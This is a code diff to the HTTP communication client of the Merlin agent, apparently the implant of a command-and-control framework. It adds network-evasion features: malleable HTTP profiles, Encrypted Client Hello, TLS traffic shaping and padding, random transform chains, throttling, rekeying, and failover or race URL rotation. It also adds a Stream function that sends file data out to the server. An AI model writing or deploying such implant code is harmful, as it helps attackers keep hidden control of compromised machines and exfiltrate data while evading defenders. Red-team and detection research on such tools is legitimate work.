@@ -57,44 +57,58 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/v2/authenticators"
-	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/none"
-	oAuth "github.com/Ne0nd0g/merlin-agent/v2/authenticators/opaque"
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/chain"
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
-	"github.com/Ne0nd0g/merlin-agent/v2/clients/memory"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/backup"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/ech"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/http/profile"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/padding"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/pin"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/prekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/rekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/resolve"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/shape"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/throttle"
 	"github.com/Ne0nd0g/merlin-agent/v2/clients/utls"
 	"github.com/Ne0nd0g/merlin-agent/v2/core"
+	"github.com/Ne0nd0g/merlin-agent/v2/heap"
 	"github.com/Ne0nd0g/merlin-agent/v2/services/p2p"
 	transformer "github.com/Ne0nd0g/merlin-agent/v2/transformers"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/base64"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/gob"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/hex"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/aes"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/jwe"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/rc4"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/xor"
+	"github.com/Ne0nd0g/merlin-agent/v2/transformers/chains"
 )
 
 // Client is a type of MerlinClient that is used to send and receive Merlin messages from the Merlin server
 type Client struct {
 	Authenticator authenticators.Authenticator
-	authenticated bool                      // authenticated tracks if the Agent has successfully authenticated
-	Client        *http.Client              // Client to send messages with
-	Protocol      string                    // Protocol contains the transportation protocol the agent is using (i.e., http2 or smb-reverse)
-	URL           []string                  // A slice of URLs to send messages to (e.g., https://127.0.0.1:443/test.php)
-	Host          string                    // HTTP Host header value
-	Proxy         string                    // Proxy string
-	JWT           string                    // JSON Web Token for authorization
-	Headers       map[string]string         // Additional HTTP headers to add to the request
-	secret        []byte                    // The secret key used to encrypt communications
-	UserAgent     string                    // HTTP User-Agent value
-	PaddingMax    int                       // PaddingMax is the maximum size allowed for a randomly selected message padding length
-	Parrot        string                    // Parrot is a feature of the github.com/refraction-networking/utls to mimic a specific browser
-	JA3           string                    // JA3 is a string that represents how the TLS client should be configured, if applicable
-	psk           string                    // psk is the Pre-Shared Key secret the agent will use to start authentication
-	AgentID       uuid.UUID                 // AgentID the Agent's unique identifier
-	currentURL    int                       // the current URL the agent is communicating with
-	transformers  []transformer.Transformer // Transformers an ordered list of transforms (encoding/encryption) to apply when constructing a message
-	insecureTLS   bool                      // insecureTLS is a boolean that determines if the InsecureSkipVerify flag is set to true or false
+	authenticated bool                        // authenticated tracks if the Agent has successfully authenticated
+	Client        *http.Client                // Client to send messages with
+	Protocol      string                      // Protocol contains the transportation protocol the agent is using (i.e., http2 or smb-reverse)
+	URL           []string                    // A slice of URLs to send messages to (e.g., https://127.0.0.1:443/test.php)
+	Host          string                      // HTTP Host header value
+	Proxy         string                      // Proxy string
+	JWT           string                      // JSON Web Token for authorization
+	Headers       map[string]string           // Additional HTTP headers to add to the request
+	secret        heap.Secret                 // The secret key used to encrypt communications
+	UserAgent     string                      // HTTP User-Agent value
+	padding       *padding.Profile            // padding selects the amount of random padding added to each Base message
+	throttle      *throttle.Limiter           // throttle limits the rate, in bytes per second, that data is sent
+	rekey         *rekey.Schedule             // rekey tracks when the secret is replaced with a new one derived from it
+	Parrot        string                      // Parrot is a feature of the github.com/refraction-networking/utls to mimic a specific browser
+	JA3           string                      // JA3 is a string that represents how the TLS client should be configured, if applicable
+	psk           heap.Secret                 // psk is the Pre-Shared Key secret the agent will use to start authentication
+	psks          []heap.Secret               // psks is the ordered list of Pre-Shared Keys tried when a message can't be decrypted with the secret
+	AgentID       uuid.UUID                   // AgentID the Agent's unique identifier
+	currentURL    int                         // the current URL the agent is communicating with
+	profile       *profile.Profile            // profile is the malleable HTTP profile used to build requests, if any
+	rotation      rotation                    // rotation is the strategy used to select the URL for the next request
+	raced         bool                        // raced is true when the race rotation strategy has a winning URL to use
+	endpoints     *backup.List                // endpoints tracks the health of the URLs, in priority order, for the backup rotation strategy
+	transformers  [][]transformer.Transformer // transformers the chains of transforms (encoding/encryption) to apply when constructing a message; one chain is picked for each message
+	insecureTLS   bool                        // insecureTLS is a boolean that determines if the InsecureSkipVerify flag is set to true or false
+	pins          pin.Pins                    // pins is a list of the server's pinned public key hashes; empty disables pinning
+	shaping       *shape.Profile              // shaping is the TLS record size and timing profile from the malleable HTTP profile, if any
+	ech           *ech.Config                 // ech is the server's Encrypted Client Hello configuration; nil disables ECH
 	sync.Mutex
 }
 
@@ -108,13 +122,21 @@ type Config struct {
 	Proxy        string    // Proxy is the URL of the proxy that all traffic needs to go through, if applicable
 	UserAgent    string    // UserAgent is the HTTP User-Agent header string that Agent will use while sending traffic
 	Parrot       string    // Parrot is a feature of the github.com/refraction-networking/utls to mimic a specific browser
-	PSK          string    // PSK is the Pre-Shared Key secret the agent will use to start authentication
+	PSK          string    // PSK is the Pre-Shared Key secret the agent will use to start authentication, or a comma separated, ordered list of them
 	JA3          string    // JA3 is a string that represents how the TLS client should be configured, if applicable
-	Padding      string    // Padding is the max amount of data that will be randomly selected and appended to every message
+	Padding      string    // Padding is the padding profile: the max amount of random data appended to every message (e.g., 4096) or size distributions per message type (e.g., checkin=lognormal:600:0.5;normal:2048:512)
+	Throttle     string    // Throttle is the maximum rate, in bytes per second, that data is sent (e.g., 512K); empty is unlimited
+	Rekey        string    // Rekey is the message count and/or interval (e.g., 100,30m) after which a new secret is derived; empty never rekeys
 	AuthPackage  string    // AuthPackage is the type of authentication the agent should use when communicating with the server
 	Opaque       []byte    // Opaque is the byte representation of the EnvU object used with the OPAQUE protocol (future use)
-	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message
+	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message; multiple lists separated by a semicolon are chains and one is picked at random for each message
 	InsecureTLS  bool      // InsecureTLS is a boolean that determines if the InsecureSkipVerify flag is set to true or false
+	Pin          string    // Pin is a comma separated list of pinned SPKI SHA256 hashes or certificates the server must present
+	ECH          string    // ECH is the server's base64 encoded ECHConfigList, or a file containing it, to encrypt the Client Hello
+	ECHFallback  bool      // ECHFallback allows a TLS handshake without ECH when the server rejects ECH without sending new configurations
+	Profile      string    // Profile is the malleable HTTP profile as JSON, base64 encoded JSON, or a file path
+	Rotation     string    // Rotation is the URL rotation strategy: random, round-robin, time-sliced[:duration], failover, race[:limit], or backup
+	Backup       string    // Backup is the number of consecutive failures before the backup rotation strategy promotes the next URL, and how often it retries the primary (e.g., 3:15m)
 }
 
 // New instantiates and returns a Client constructed from the passed in Config
@@ -130,69 +152,47 @@ func New(config Config) (*Client, error) {
 		Proxy:       config.Proxy,
 		JA3:         config.JA3,
 		Parrot:      config.Parrot,
-		psk:         config.PSK,
+		psks:        heap.NewSecrets(clients.PSKs(config.PSK)),
 		insecureTLS: config.InsecureTLS,
 	}
+	client.psk = client.psks[0]
 
-	// Authenticator
-	switch strings.ToLower(config.AuthPackage) {
-	case "none":
-		client.Authenticator = none.New(config.AgentID)
-	case "opaque":
-		client.Authenticator = oAuth.New(config.AgentID)
-	default:
-		return nil, fmt.Errorf("an authenticator must be provided (e.g., 'none' or 'opaque'")
+	// Authenticator, or a comma separated list that is an ordered chain of authenticators that must all succeed (e.g., none,opaque)
+	var err error
+	client.Authenticator, err = chain.Select(config.AgentID, config.AuthPackage)
+	if err != nil {
+		return nil, err
 	}
 
 	// Transformers
-	transforms := strings.Split(config.Transformers, ",")
-	for _, transform := range transforms {
-		var t transformer.Transformer
-		switch strings.ToLower(transform) {
-		case "aes":
-			t = aes.NewEncrypter()
-		case "base64-byte":
-			t = base64.NewEncoder(base64.BYTE)
-		case "base64-string":
-			t = base64.NewEncoder(base64.STRING)
-		case "gob-base":
-			t = gob.NewEncoder(gob.BASE)
-		case "gob-string":
-			t = gob.NewEncoder(gob.STRING)
-		case "hex-byte":
-			t = hex.NewEncoder(hex.BYTE)
-		case "hex-string":
-			t = hex.NewEncoder(hex.STRING)
-		case "jwe":
-			t = jwe.NewEncrypter()
-		case "rc4":
-			t = rc4.NewEncrypter()
-		case "xor":
-			t = xor.NewEncrypter()
-		default:
-			err := fmt.Errorf("clients/http.New(): unhandled transform type: %s", transform)
-			if err != nil {
-				return nil, err
-			}
-		}
-		client.transformers = append(client.transformers, t)
+	// Multiple transformer chains are separated by a semicolon and one is picked at random for each message
+	client.transformers, err = chains.New(config.Transformers)
+	if err != nil {
+		return nil, fmt.Errorf("clients/http.New(): %s", err)
 	}
 
 	// Set secret for JWT and JWE encryption key from PSK
-	k := sha256.Sum256([]byte(client.psk))
-	client.secret = k[:]
-	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk))
-	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret))
+	k := sha256.Sum256(client.psk.Open())
+	client.secret = heap.NewSecret(k[:])
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk.Open()))
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret.Open()))
 
-	//Convert Padding from string to an integer
-	var err error
-	if config.Padding != "" {
-		client.PaddingMax, err = strconv.Atoi(config.Padding)
-		if err != nil {
-			return &client, fmt.Errorf("there was an error converting the padding max to an integer:\r\n%s", err)
-		}
-	} else {
-		client.PaddingMax = 0
+	// Message padding profile
+	client.padding, err = padding.New(config.Padding)
+	if err != nil {
+		return &client, fmt.Errorf("clients/http.New(): %s", err)
+	}
+
+	// Outbound bandwidth throttle
+	client.throttle, err = throttle.New(config.Throttle)
+	if err != nil {
+		return &client, fmt.Errorf("clients/http.New(): %s", err)
+	}
+
+	// Session rekey schedule
+	client.rekey, err = rekey.New(config.Rekey)
+	if err != nil {
+		return &client, fmt.Errorf("clients/http.New(): %s", err)
 	}
 
 	// Parse additional HTTP Headers
@@ -216,8 +216,44 @@ func New(config Config) (*Client, error) {
 		}
 	}
 
+	// Parse the URL rotation strategy
+	client.rotation, err = parseRotation(config.Rotation)
+	if err != nil {
+		return &client, err
+	}
+	if len(client.URL) > 0 {
+		client.endpoints, err = backup.New(client.URL, config.Backup)
+		if err != nil {
+			return &client, err
+		}
+	}
+
+	// Parse the malleable HTTP profile
+	client.profile, err = profile.Parse(config.Profile)
+	if err != nil {
+		return &client, err
+	}
+	if client.profile != nil {
+		client.shaping = client.profile.Shaping
+	}
+
+	// Parse the pinned server public keys
+	client.pins, err = pin.Parse(config.Pin)
+	if err != nil {
+		return &client, fmt.Errorf("clients/http.New(): %s", err)
+	}
+
+	// Parse the Encrypted Client Hello configuration
+	client.ech, err = ech.Parse(config.ECH)
+	if err != nil {
+		return &client, fmt.Errorf("clients/http.New(): %s", err)
+	}
+	if client.ech != nil {
+		client.ech.Fallback = config.ECHFallback
+	}
+
 	// Get the HTTP client
-	client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, client.Parrot, client.insecureTLS)
+	client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, client.Parrot, client.insecureTLS, client.pins, client.shaping, client.ech)
 	if err != nil {
 		return &client, err
 	}
@@ -226,29 +262,44 @@ func New(config Config) (*Client, error) {
 	cli.Message(cli.INFO, fmt.Sprintf("\tProtocol: %s", client.Protocol))
 	cli.Message(cli.INFO, fmt.Sprintf("\tAuthenticator: %s", client.Authenticator))
 	cli.Message(cli.INFO, fmt.Sprintf("\tTransforms: %+v", client.transformers))
+	cli.Message(cli.INFO, fmt.Sprintf("\tRekey: %s", client.rekey))
 	cli.Message(cli.INFO, fmt.Sprintf("\tURL: %v", client.URL))
+	cli.Message(cli.INFO, fmt.Sprintf("\tURL Rotation: %s", client.rotation))
+	if client.rotation.strategy == BACKUP && client.endpoints != nil {
+		cli.Message(cli.INFO, fmt.Sprintf("\tBackup: %s", client.endpoints))
+	}
 	cli.Message(cli.INFO, fmt.Sprintf("\tUser-Agent: %s", client.UserAgent))
 	cli.Message(cli.INFO, fmt.Sprintf("\tHTTP Host Header: %s", client.Host))
 	cli.Message(cli.INFO, fmt.Sprintf("\tHTTP Headers: %s", client.Headers))
+	if client.profile != nil {
+		cli.Message(cli.INFO, fmt.Sprintf("\tHTTP Profile: %s", client.profile))
+	}
 	cli.Message(cli.INFO, fmt.Sprintf("\tProxy: %s", client.Proxy))
-	cli.Message(cli.INFO, fmt.Sprintf("\tPayload Padding Max: %d", client.PaddingMax))
+	cli.Message(cli.INFO, fmt.Sprintf("\tPayload Padding: %s", client.padding))
 	cli.Message(cli.INFO, fmt.Sprintf("\tJA3 String: %s", client.JA3))
 	cli.Message(cli.INFO, fmt.Sprintf("\tParrot String: %s", client.Parrot))
-
-	// Add the client to the repository
-	memory.NewRepository().Add(&client)
+	if len(client.pins) > 0 {
+		cli.Message(cli.INFO, fmt.Sprintf("\tPinned Public Keys: %s", client.pins))
+	}
+	if client.ech != nil {
+		cli.Message(cli.INFO, fmt.Sprintf("\tEncrypted Client Hello: %s", client.ech))
+	}
 
 	return &client, nil
 }
 
 // getClient returns an HTTP client for the passed in protocol (i.e., h2 or http3)
-func getClient(protocol string, proxyURL string, ja3 string, parrot string, insecure bool) (*http.Client, error) {
+// When a traffic shaping profile is provided, the h2 and https TLS connections are wrapped to write records in its shape.
+// When an ECH configuration is provided, the h2 and https TLS connections encrypt the Client Hello
+func getClient(protocol string, proxyURL string, ja3 string, parrot string, insecure bool, pins pin.Pins, shaping *shape.Profile, echConfig *ech.Config) (*http.Client, error) {
 	cli.Message(cli.DEBUG, "Entering into clients.http.getClient()...")
 	cli.Message(cli.DEBUG, fmt.Sprintf("Protocol: %s, Proxy: %s, JA3 String: %s, Parrot: %s", protocol, proxyURL, ja3, parrot))
 	// Setup TLS configuration
 	TLSConfig := &tls.Config{
 		MinVersion:         tls.VersionTLS12,
 		InsecureSkipVerify: insecure, // #nosec G402 - intentionally configurable to allow self-signed certificates. See https://github.com/Ne0nd0g/merlin/issues/59
+		// Certificate pinning is enforced even when InsecureSkipVerify is true
+		VerifyPeerCertificate: pins.VerifyPeerCertificate(),
 		CipherSuites: []uint16{
 			tls.TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384,
 			tls.TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA,
@@ -261,9 +312,28 @@ func getClient(protocol string, proxyURL string, ja3 string, parrot string, inse
 		return nil, errProxy
 	}
 
+	// Traffic shaping and ECH use the standard library's TLS connections
+	dialTLS := shaping != nil || echConfig != nil
+	if dialTLS {
+		switch strings.ToLower(protocol) {
+		case "h2", "https":
+			if ja3 != "" || parrot != "" {
+				cli.Message(cli.WARN, "clients/http.getClient(): traffic shaping and ECH are not supported with JA3 or parroted TLS connections")
+			}
+		default:
+			cli.Message(cli.WARN, fmt.Sprintf("clients/http.getClient(): traffic shaping and ECH are not supported with the %s protocol", protocol))
+		}
+	}
+
+	// The DNS cache and overrides resolve the server's hostname when they are enabled
+	var netDial ech.Dialer = (&net.Dialer{}).DialContext
+	if resolve.Enabled() {
+		netDial = resolve.DialContext
+	}
+
 	// JA3
 	if ja3 != "" {
-		transport, err := utls.NewTransportFromJA3(ja3, insecure, proxyFunc)
+		transport, err := utls.NewTransportFromJA3(ja3, insecure, pins.VerifyPeerCertificate(), proxyFunc)
 		if err != nil {
 			return nil, err
 		}
@@ -273,7 +343,7 @@ func getClient(protocol string, proxyURL string, ja3 string, parrot string, inse
 	// Parrot - If a JA3 string was set, it will be used, and the parroting will be ignored
 	if parrot != "" {
 		// Build the transport
-		transport, err := utls.NewTransportFromParrot(parrot, insecure, proxyFunc)
+		transport, err := utls.NewTransportFromParrot(parrot, insecure, pins.VerifyPeerCertificate(), proxyFunc)
 		if err != nil {
 			return nil, err
 		}
@@ -299,29 +369,44 @@ func getClient(protocol string, proxyURL string, ja3 string, parrot string, inse
 		}
 	case "h2":
 		TLSConfig.NextProtos = []string{"h2"} // https://www.iana.org/assignments/tls-extensiontype-values/tls-extensiontype-values.xhtml#alpn-protocol-ids
-		transport = &http2.Transport{
+		t := &http2.Transport{
 			TLSClientConfig: TLSConfig,
 		}
+		if dialTLS || resolve.Enabled() {
+			t.DialTLSContext = func(ctx context.Context, network, addr string, cfg *tls.Config) (net.Conn, error) {
+				return dial(ctx, network, addr, cfg, shaping, echConfig, netDial)
+			}
+		}
+		transport = t
 	case "h2c":
 		transport = &http2.Transport{
 			AllowHTTP: true,
 			DialTLSContext: func(ctx context.Context, network, addr string, cfg *tls.Config) (net.Conn, error) {
-				return net.Dial(network, addr)
+				return netDial(ctx, network, addr)
 			},
 		}
 	case "https":
 		TLSConfig.NextProtos = []string{"http/1.1"} // https://www.iana.org/assignments/tls-extensiontype-values/tls-extensiontype-values.xhtml#alpn-protocol-ids
-		transport = &http.Transport{
+		t := &http.Transport{
 			TLSClientConfig: TLSConfig,
 			MaxIdleConns:    10,
 			Proxy:           proxyFunc,
 			IdleConnTimeout: 1 * time.Nanosecond,
+			DialContext:     netDial,
 		}
+		// DialTLSContext isn't used for requests that go through a proxy
+		if dialTLS {
+			t.DialTLSContext = func(ctx context.Context, network, addr string) (net.Conn, error) {
+				return dial(ctx, network, addr, TLSConfig, shaping, echConfig, netDial)
+			}
+		}
+		transport = t
 	case "http":
 		transport = &http.Transport{
 			MaxIdleConns:    10,
 			Proxy:           proxyFunc,
 			IdleConnTimeout: 1 * time.Nanosecond,
+			DialContext:     netDial,
 		}
 	default:
 		return nil, fmt.Errorf("%s is not a valid client protocol", protocol)
@@ -329,6 +414,55 @@ func getClient(protocol string, proxyURL string, ja3 string, parrot string, inse
 	return &http.Client{Transport: transport}, nil
 }
 
+// dial makes a TLS connection to the address over a network connection from the dialer, using ECH if configured, and
+// wraps it to write records in the traffic shaping profile, if any
+func dial(ctx context.Context, network, addr string, cfg *tls.Config, shaping *shape.Profile, echConfig *ech.Config, netDial ech.Dialer) (net.Conn, error) {
+	cfg = cfg.Clone()
+	if shaping != nil {
+		// Each Write must be a single record, not split into smaller ones while the connection is new
+		cfg.DynamicRecordSizingDisabled = true
+	}
+	conn, err := echConfig.Dial(ctx, network, addr, cfg, netDial)
+	if err != nil {
+		return nil, err
+	}
+	if shaping != nil {
+		return shaping.Wrap(conn), nil
+	}
+	return conn, nil
+}
+
+// pad adds the traffic shaping profile's pad header to the request, filled with enough random characters to bring the
+// request's estimated size on the wire up to whole TLS records
+func pad(req *http.Request, shaping *shape.Profile) {
+	if shaping.PadHeader == "" {
+		return
+	}
+	host := req.Host
+	if host == "" {
+		host = req.URL.Host
+	}
+	// Request line, Host header, blank line, and body
+	size := len(req.Method) + len(req.URL.RequestURI()) + len("  HTTP/1.1\r\n") + len("Host: \r\n") + len(host) + len("\r\n")
+	if req.ContentLength > 0 {
+		size += int(req.ContentLength)
+	}
+	for k, values := range req.Header {
+		for _, v := range values {
+			size += len(k) + len(v) + len(": \r\n")
+		}
+	}
+	// The pad header itself with at least one character
+	size += len(shaping.PadHeader) + len(": \r\n") + 1
+
+	const chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
+	value := make([]byte, shaping.Pad(size)+1)
+	for i := range value {
+		value[i] = chars[rand.Intn(len(chars))] // #nosec G404 - Does not need to be cryptographically secure
+	}
+	req.Header.Set(shaping.PadHeader, string(value))
+}
+
 // getProxy returns a proxy function for the passed in protocol and proxy URL if any
 // Reads the HTTP_PROXY and HTTPS_PROXY environment variables if no proxy URL was passed in
 func getProxy(protocol string, proxyURL string) (func(*http.Request) (*url.URL, error), error) {
@@ -379,7 +513,7 @@ func (client *Client) getJWT() (string, error) {
 	// Agent generated JWT will always use the PSK
 	// Server later signs and returns JWTs
 
-	key := sha256.Sum256([]byte(client.psk))
+	key := sha256.Sum256(client.psk.Open())
 
 	// Create encrypter
 	encrypter, encErr := jose.NewEncrypter(jose.A256GCM,
@@ -432,12 +566,28 @@ func (client *Client) Listen() (returnMessages []messages.Base, err error) {
 // This is where the client's logic is for communicating with the server.
 func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err error) {
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/http.Send(): Entering into function with message: %+v", m))
+
+	// The backup strategy uses the primary URL, or the promoted backup, unless it is time to retry the primary
+	if client.rotation.strategy == BACKUP && client.endpoints != nil {
+		client.currentURL, _ = client.endpoints.Next()
+	}
+
+	// Race the URLs for the first to connect; a proxy or QUIC connection can't be raced with a TCP connection
+	if client.rotation.strategy == RACE && !client.raced && len(client.URL) > 1 && client.Proxy == "" && client.Protocol != "http3" {
+		winner, errRace := client.rotation.race(client.URL)
+		if errRace != nil {
+			cli.Message(cli.WARN, errRace.Error())
+		} else {
+			client.currentURL = winner
+			client.raced = true
+			cli.Message(cli.NOTE, fmt.Sprintf("%s won the URL race", client.URL[client.currentURL]))
+		}
+	}
 	cli.Message(cli.NOTE, fmt.Sprintf("Sending %s message to %s", m.Type, client.URL[client.currentURL]))
 
 	// Set the message padding
-	if client.PaddingMax > 0 {
-		// #nosec G404 -- Random number does not impact security
-		m.Padding = core.RandStringBytesMaskImprSrc(rand.Intn(client.PaddingMax))
+	if size := client.padding.Size(m.Type); size > 0 {
+		m.Padding = core.RandStringBytesMaskImprSrc(size)
 	}
 
 	// Construct the message running it through all the configured transforms
@@ -447,8 +597,15 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 		return
 	}
 
-	// Build the POST request
-	req, reqErr := http.NewRequest("POST", client.URL[client.currentURL], bytes.NewReader(data))
+	// Build the request
+	var req *http.Request
+	var reqErr error
+	if client.profile != nil {
+		// The malleable profile determines the URI, method, and where the payload and JWT are placed
+		req, reqErr = client.profile.Request(client.URL[client.currentURL], data, client.JWT)
+	} else {
+		req, reqErr = http.NewRequest("POST", client.URL[client.currentURL], bytes.NewReader(data))
+	}
 	if reqErr != nil {
 		err = fmt.Errorf("there was an error building the HTTP request:\r\n%s", reqErr.Error())
 		return
@@ -456,8 +613,10 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 
 	if req != nil {
 		req.Header.Set("User-Agent", client.UserAgent)
-		req.Header.Set("Content-Type", "application/octet-stream; charset=utf-8")
-		req.Header.Set("Authorization", fmt.Sprintf("Bearer %s", client.JWT))
+		if client.profile == nil {
+			req.Header.Set("Content-Type", "application/octet-stream; charset=utf-8")
+			req.Header.Set("Authorization", fmt.Sprintf("Bearer %s", client.JWT))
+		}
 		if client.Host != "" {
 			req.Host = client.Host
 		}
@@ -466,25 +625,45 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 		req.Header.Set(header, value)
 	}
 
+	// Pad the request toward whole TLS records
+	if client.shaping != nil {
+		pad(req, client.shaping)
+	}
+
+	// Throttle the request body, the Content-Length header is already set
+	if req.Body != nil && client.throttle.Rate() > 0 {
+		req.Body = io.NopCloser(client.throttle.Reader(req.Body))
+	}
+
 	// Send the request
-	cli.Message(cli.DEBUG, fmt.Sprintf("Sending POST request size: %d to: %s", req.ContentLength, client.URL[client.currentURL]))
+	cli.Message(cli.DEBUG, fmt.Sprintf("Sending %s request size: %d to: %s", req.Method, req.ContentLength, req.URL))
 	cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Request:\r\n%+v", req))
 	resp, err := client.Client.Do(req)
 
+	// Track the health of the URL for the backup strategy, even during authentication, so an unreachable primary is
+	// replaced before the Agent has ever checked in
+	if client.rotation.strategy == BACKUP && client.endpoints != nil {
+		if err != nil || (resp != nil && resp.StatusCode >= 500) {
+			client.endpoints.Fail()
+		} else {
+			client.endpoints.Succeed()
+		}
+	}
+
 	// Must rotate URL before error check to keep the URL from getting stuck on the same server
-	if client.Authenticator.String() == "OPAQUE" && len(client.secret) != 64 {
+	if client.Authenticator.String() == "OPAQUE" && len(client.secret.Open()) != 64 {
 		// Don't rotate URL until OPAQUE registration/authentication is complete
 		// AES PSK is 32-bytes but OPAQUE PSK is 64-bytes
 		// Don't do anything
 	} else if len(client.URL) > 1 {
-		// Randomly rotate URL for the NEXT request
-		client.currentURL = rand.Intn(len(client.URL)) // #nosec G404 random number is not used for secrets
-
-		// Sequentially rotate URL for the NEXT request
-		//if client.currentURL < (len(client.URL) - 1) {
-		//	client.currentURL++
-		//}
-		cli.Message(cli.DEBUG, fmt.Sprintf("clients/http.Send(): Rotating URL to: %s", client.URL[client.currentURL]))
+		// Rotate URL for the NEXT request according to the rotation strategy
+		failed := err != nil || (resp != nil && resp.StatusCode >= 500)
+		client.currentURL = client.rotation.next(client.currentURL, len(client.URL), failed)
+		// The race strategy races the URLs again after the winner fails
+		if failed {
+			client.raced = false
+		}
+		cli.Message(cli.DEBUG, fmt.Sprintf("clients/http.Send(): Rotating URL with the %s strategy to: %s", client.rotation, client.URL[client.currentURL]))
 	}
 
 	if err != nil {
@@ -521,7 +700,7 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 			if n {
 				cli.Message(cli.NOTE, e)
 				var errClient error
-				client.Client, errClient = getClient(client.Protocol, "", "", "", client.insecureTLS)
+				client.Client, errClient = getClient(client.Protocol, "", "", "", client.insecureTLS, client.pins, client.shaping, client.ech)
 				if errClient != nil {
 					cli.Message(cli.WARN, fmt.Sprintf("there was an error getting a new HTTP/3 client: %s", errClient.Error()))
 				}
@@ -594,6 +773,90 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 	return
 }
 
+// Stream runs the data read from the reader through the stream transforms of a randomly picked transformer chain and
+// POSTs it to the server as a chunked request body, which is how the server tells a stream apart from a message, so that
+// large file transfers are never held in memory. The current secret is used without advancing the rekey schedule
+// because a stream isn't a message. Malleable profiles aren't supported because they place the payload themselves
+func (client *Client) Stream(reader io.Reader) error {
+	cli.Message(cli.DEBUG, "clients/http.Stream(): entering into function")
+	client.Lock()
+	if client.profile != nil {
+		client.Unlock()
+		return fmt.Errorf("clients/http.Stream(): streaming is not supported with a malleable HTTP profile")
+	}
+	key := client.secret.Open()
+	token := client.JWT
+	target := client.URL[client.currentURL]
+	index, prefix := transformer.Pick(len(client.transformers))
+	chain, err := transformer.StreamChain(client.transformers[index])
+	client.Unlock()
+	if err != nil {
+		return fmt.Errorf("clients/http.Stream(): %s", err)
+	}
+
+	// Transform the data in a goroutine that writes to the request body as it is sent
+	body, pipe := io.Pipe()
+	defer body.Close()
+	go func() {
+		if prefix != nil {
+			if _, err := pipe.Write(prefix); err != nil {
+				pipe.CloseWithError(err)
+				return
+			}
+		}
+		writer, err := transformer.ConstructStream(pipe, chain, key)
+		if err != nil {
+			pipe.CloseWithError(err)
+			return
+		}
+		_, err = io.Copy(writer, reader)
+		if err == nil {
+			err = writer.Close()
+		}
+		pipe.CloseWithError(err)
+	}()
+
+	var requestBody io.Reader = body
+	if client.throttle.Rate() > 0 {
+		requestBody = client.throttle.Reader(body)
+	}
+	req, err := http.NewRequest("POST", target, requestBody)
+	if err != nil {
+		return fmt.Errorf("clients/http.Stream(): there was an error building the HTTP request: %s", err)
+	}
+	req.Header.Set("User-Agent", client.UserAgent)
+	req.Header.Set("Content-Type", "application/octet-stream; charset=utf-8")
+	req.Header.Set("Authorization", fmt.Sprintf("Bearer %s", token))
+	if client.Host != "" {
+		req.Host = client.Host
+	}
+	for header, value := range client.Headers {
+		req.Header.Set(header, value)
+	}
+
+	cli.Message(cli.NOTE, fmt.Sprintf("Streaming data to %s", target))
+	resp, err := client.Client.Do(req)
+	if err != nil {
+		return fmt.Errorf("clients/http.Stream(): there was an error with the http client while performing a POST: %s", err)
+	}
+	defer resp.Body.Close()
+	_, _ = io.Copy(io.Discard, resp.Body)
+	if resp.StatusCode != 200 {
+		return fmt.Errorf("clients/http.Stream(): the server returned status code %d", resp.StatusCode)
+	}
+	return nil
+}
+
+// Padding returns the profile that selects the amount of random padding added to each Base message
+func (client *Client) Padding() *padding.Profile {
+	return client.padding
+}
+
+// SetPadding replaces the profile that selects the amount of random padding added to each Base message
+func (client *Client) SetPadding(profile *padding.Profile) {
+	client.padding = profile
+}
+
 // Set is a generic function used to modify a Client's field values
 func (client *Client) Set(key string, value string) (err error) {
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/http.Set(): entering into function with key: %s, value: %s", key, value))
@@ -615,10 +878,23 @@ func (client *Client) Set(key string, value string) (err error) {
 			}
 		}
 		client.URL = urls
-		client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, client.Parrot, client.insecureTLS)
+		client.currentURL = 0
+		client.raced = false
+		// Keep the backup strategy's promotion threshold and primary retry interval for the new URLs
+		var spec string
+		if client.endpoints != nil {
+			spec = client.endpoints.String()
+		}
+		var endpoints *backup.List
+		endpoints, err = backup.New(urls, spec)
+		if err != nil {
+			return
+		}
+		client.endpoints = endpoints
+		client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, client.Parrot, client.insecureTLS, client.pins, client.shaping, client.ech)
 	case "ja3":
